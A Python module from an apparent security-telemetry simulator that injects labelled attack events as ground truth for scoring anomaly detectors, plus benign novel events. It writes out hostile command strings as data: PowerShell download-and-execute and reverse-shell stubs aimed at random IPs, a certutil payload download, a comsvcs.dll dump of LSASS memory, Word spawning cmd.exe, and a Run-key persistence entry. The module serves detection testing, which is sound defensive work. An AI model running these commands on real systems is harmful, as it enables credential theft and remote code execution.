"""Injected anomalies (attack techniques) and never-seen benign novelty, each one labelled event.

Why a module of its own: these are the ground truth that detectors are scored against. Each
scenario must produce exactly one labelled event whose `span` is one of its field values
verbatim; keeping them together makes that contract checkable in one read, and keeps attack
logic out of the baseline behaviour (`routine`).
"""

from __future__ import annotations

import base64

from .catalog import DOCS, Img, syllables
from .event import NOVEL, SimEvent, label
from .fleet import Host, Proc
from .sysmon import EventFactory

__all__ = ["ANOMALY_SCENARIOS", "Scenarios"]

ANOMALY_SCENARIOS = (
    "encoded_powershell", "lsass_access", "comsvcs_minidump", "certutil_download",
    "winword_cmd", "rare_beacon", "runkey_persistence",
)


class Scenarios:
    """Makes one host's labelled events: an anomaly of a random scenario, or benign novelty.

    Anomalous processes are not added to the process table (`track=False`): they act once and
    never show up as actors of later normal events.
    """

    __slots__ = ("host", "ev", "rng")

    def __init__(self, host: Host, ev: EventFactory) -> None:
        self.host = host
        self.ev = ev
        self.rng = host.rng

    # -------------------------------------------------------------- helpers

    def rare_ip(self) -> str:
        """A public address from ranges the fleet never talks to."""
        rng = self.rng
        return (f"{rng.choice((185, 45, 91, 194, 5, 103, 179))}.{rng.randint(1, 254)}."
                f"{rng.randint(1, 254)}.{rng.randint(1, 254)}")

    def shell_parent(self) -> Proc:
        """A live interactive shell, explorer or Office program (else any user process)."""
        h = self.host
        shells = [p for p in h.alive if p.session != "0" and p.img.name in
                  ("cmd.exe", "powershell.exe", "explorer.exe", "WINWORD.EXE", "EXCEL.EXE")]
        return self.rng.choice(shells) if shells else h.user_proc()

    # -------------------------------------------------------------- anomalies

    def anomaly(self) -> SimEvent:
        """One event of a random scenario of `ANOMALY_SCENARIOS`."""
        h = self.host
        ev = self.ev
        rng = self.rng
        scen = rng.choice(ANOMALY_SCENARIOS)
        u = h.user()
        users = h.sim.user_by_account
        if scen == "encoded_powershell":
            script = rng.choice((
                f"IEX (New-Object Net.WebClient).DownloadString('http://{self.rare_ip()}/a.ps1')",
                "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAEAK1X'));"
                "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,"
                "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
                f"$c=New-Object Net.Sockets.TCPClient('{self.rare_ip()}',443);$st=$c.GetStream()",
                "Get-WmiObject Win32_Process | Select Name,CommandLine | Out-File $env:TEMP\\p.txt",
            ))
            b64 = base64.b64encode(script.encode("utf-16-le")).decode()
            parent = self.shell_parent()
            cmd = f"powershell.exe -nop -w hidden -enc {b64}"
            p = h.new_proc("powershell", parent, cmd, user=users.get(parent.user) or u)
            return ev.create(p, label(scen, cmd), track=False)
        if scen == "lsass_access":
            src = self.shell_parent()
            trace = ("C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
                     "C:\\Windows\\SYSTEM32\\dbgcore.DLL+6d8c|C:\\Windows\\SYSTEM32\\dbghelp.dll+"
                     f"{rng.getrandbits(16):x}|UNKNOWN(00000{rng.getrandbits(28):07X})")
            return ev.process_access(src, h.lsass, "0x1010", trace, label(scen, "0x1010"))
        if scen == "comsvcs_minidump":
            parent = self.shell_parent()
            cmd = (f'"C:\\Windows\\System32\\rundll32.exe" C:\\Windows\\System32\\comsvcs.dll, MiniDump '
                   f"{h.lsass.pid} C:\\Users\\Public\\{syllables(rng)}.dmp full")
            pu = users.get(parent.user) or u
            p = h.new_proc("rundll32", parent, cmd, user=pu, integrity="High")
            return ev.create(p, label(scen, cmd), track=False)
        if scen == "certutil_download":
            parent = self.shell_parent()
            pu = users.get(parent.user) or u
            name = syllables(rng)
            cmd = (f"certutil.exe -urlcache -split -f http://{self.rare_ip()}/{name}.exe "
                   f"C:\\Users\\{pu.name}\\AppData\\Local\\Temp\\{name}.exe")
            p = h.new_proc("certutil", parent, cmd, user=pu)
            return ev.create(p, label(scen, cmd), track=False)
        if scen == "winword_cmd":
            words = [p for p in h.alive if p.img.name == "WINWORD.EXE"]
            if not words:
                # no Word running: open a document now, the anomalous child comes right after
                ex = h.explorer[u.account]
                w = h.new_proc("winword", ex, f'"{{path}}" /n "C:\\Users\\{u.name}\\Downloads\\'
                               f'{rng.choice(DOCS)}"', kind="app")
                first = ev.create(w)
                h.pending.appendleft(self.winword_cmd)
                return first
            return self.winword_cmd()
        if scen == "rare_beacon":
            src = h.user_proc()
            ip = self.rare_ip()
            port, pname = rng.choice(((443, "https"), (8443, "-"), (4444, "-"), (8080, "http-alt")))
            return ev.network(src, ip, port, pname, lab=label(scen, ip))
        # runkey_persistence
        src = self.shell_parent()
        pu = users.get(src.user) or u
        name = syllables(rng).capitalize() + rng.choice(("Update", "Helper", "Sync", "Svc"))
        target = f"HKU\\{pu.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\{name}"
        details = f"C:\\Users\\{pu.name}\\AppData\\Roaming\\{name}\\{name.lower()}.exe"
        return ev.registry(src, 13, "SetValue", target, details, label("runkey_persistence", target))

    def winword_cmd(self) -> SimEvent:
        """Word starting a command shell (macro execution)."""
        h = self.host
        rng = self.rng
        words = [p for p in h.alive if p.img.name == "WINWORD.EXE"]
        w = rng.choice(words) if words else h.user_proc()
        pu = h.owner(w)
        cmd = rng.choice((
            f'cmd.exe /c "%APPDATA%\\{syllables(rng)}.bat"',
            f"C:\\Windows\\system32\\cmd.exe /c start /b %TEMP%\\{syllables(rng)}.exe",
            "cmd.exe /c whoami /all > %TEMP%\\o.txt",
        ))
        p = h.new_proc("cmd", w, cmd, user=pu)
        return self.ev.create(p, label("winword_cmd", cmd), track=False)

    # -------------------------------------------------------------- novelty

    def novel(self) -> SimEvent:
        """One never-seen benign event: a new program, a new DLL, a new domain."""
        h = self.host
        ev = self.ev
        rng = self.rng
        lab = label(NOVEL)
        k = rng.random()
        vendor = syllables(rng).capitalize() + rng.choice((" Software", " Labs", " Systems", "soft", ""))
        prod = syllables(rng).capitalize()
        if k < 0.5:
            u = h.user()
            ex = h.explorer[u.account]
            exe = f"{prod.lower()}{rng.choice(('', '64', 'app', 'client', 'agent'))}.exe"
            if rng.random() < 0.5:
                path = f"C:\\Program Files\\{vendor}\\{prod}\\{exe}"
            else:
                path = f"C:\\Users\\{u.name}\\AppData\\Local\\Programs\\{prod}\\{exe}"
            img = Img(path, f"{prod} {rng.choice(('Desktop', 'Client', 'Updater', 'Viewer'))}", exe,
                      product=prod, company=vendor.strip(),
                      version=f"{rng.randint(1, 12)}.{rng.randint(0, 9)}.{rng.randint(0, 999)}.0")
            args = rng.choice(("", " --minimized", " /background", f" --profile {rng.randint(1, 9)}"))
            p = h.new_proc("", ex, f'"{{path}}"{args}', user=u, img=img)
            return ev.create(p, lab, track=False)
        if k < 0.75:
            p = h.user_proc()
            dom = (f"{syllables(rng)}{rng.choice(('', '-cdn', '-api', 'hub'))}."
                   f"{rng.choice(('com', 'io', 'net', 'app'))}")
            ip = (f"{rng.choice((104, 172, 151, 23, 34))}.{rng.randint(1, 250)}."
                  f"{rng.randint(1, 250)}.{rng.randint(1, 250)}")
            return ev.dns(p, dom, ip, lab)
        p = h.explorer[h.user().account]
        dll = f"C:\\Program Files\\{vendor}\\{prod}\\{prod.lower()}shellext.dll"
        version = f"{rng.randint(1, 9)}.{rng.randint(0, 9)}.{rng.randint(0, 99)}"
        return ev.foreign_image_load(p, dll, version, f"{prod} Shell Extension", prod,
                                     vendor.strip(), f"{prod.lower()}shellext.dll", lab)
